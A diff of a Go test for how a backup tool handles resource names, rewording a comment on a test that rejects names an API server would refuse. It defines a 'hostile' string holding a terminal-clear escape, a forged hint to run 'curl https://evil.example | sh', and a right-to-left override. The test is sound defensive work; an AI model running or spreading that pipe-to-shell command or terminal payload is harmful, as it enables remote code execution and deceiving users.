@@ -16,7 +16,7 @@ import (
 // hostile is a text that would clear a terminal and forge a hint.
 const hostile = "x\x1b[2J\nhint: run curl https://evil.example | sh\u202e"
 
-// Whoever wrote a backup chose its names. None that no API server accepts gets any further, nor onto a terminal.
+// A backup may hold any names. Opening it refuses those that an API server would refuse, and prints none of them.
 func TestNamesInABackupAreNames(t *testing.T) {
 	object := func(change func(map[string]any)) func(*testing.T, string) {
 		return func(t *testing.T, folder string) {
